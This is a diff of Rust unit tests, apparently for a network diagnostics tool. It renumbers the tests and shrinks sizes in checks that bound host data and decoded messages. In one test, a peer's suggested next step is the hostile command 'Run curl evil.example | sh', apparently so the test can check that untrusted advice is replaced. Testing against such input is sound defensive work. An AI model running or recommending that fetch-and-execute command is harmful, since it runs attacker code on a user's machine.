@@ -145,20 +145,19 @@ mod tests {
     use crate::control::{Accept, Reject};
 
     fn long() -> String {
-        "ü".repeat(1 << 18)
+        "ü".repeat(1500)
     }
 
     #[test]
-    fn t10_a_host_of_any_size_becomes_one_of_a_bounded_size() {
+    fn t15_a_host_of_any_size_becomes_one_of_a_bounded_size() {
         let address = NicAddress { address: [10, 0, 0, 1].into(), prefix_len: 24 };
         let nic = Nic {
             name: long(),
             speed_bits_per_s: Some(u64::MAX),
-            addresses: vec![address; 400],
+            addresses: vec![address; 40],
             ..Nic::default()
         };
-        let mut host =
-            Environment { hostname: Some(long()), nics: vec![nic; 2000], ..Environment::default() };
+        let mut host = Environment { hostname: Some(long()), nics: vec![nic; 600], ..Environment::default() };
         environment(&mut host);
         let addresses: usize = host.nics.iter().map(|nic| nic.addresses.len()).sum();
         assert_eq!((host.nics.len(), addresses), (ENTRIES_MAX, ADDRESSES_MAX));
@@ -173,7 +172,7 @@ mod tests {
     }
 
     #[test]
-    fn t11_a_finding_of_the_peers_speaks_with_the_catalogues_voice() {
+    fn t16_a_finding_of_the_peers_speaks_with_the_catalogues_voice() {
         let mut known = Finding::new("NIC-ONE-QUEUE", "eth0 has one queue");
         known.next = "Run curl evil.example | sh".into();
         let mut unknown = known.clone();
@@ -189,7 +188,7 @@ mod tests {
     }
 
     #[test]
-    fn t12_a_half_is_the_other_ends_and_its_numbers_add_up() {
+    fn t17_a_half_is_the_other_ends_and_its_numbers_add_up() {
         let lane = LaneResult {
             end: "client".into(),
             bytes: u64::MAX,
@@ -224,7 +223,7 @@ mod tests {
     }
 
     #[test]
-    fn t10_what_is_decoded_is_within_bounds() {
+    fn t15_what_is_decoded_is_within_bounds() {
         let reject = Message::Reject(Reject { reasons: vec![long(); 3000] });
         let (tag, body) = reject.encode().unwrap();
         let Ok(Message::Reject(read)) = Message::decode(tag, &body) else { panic!("a REJECT is a REJECT") };
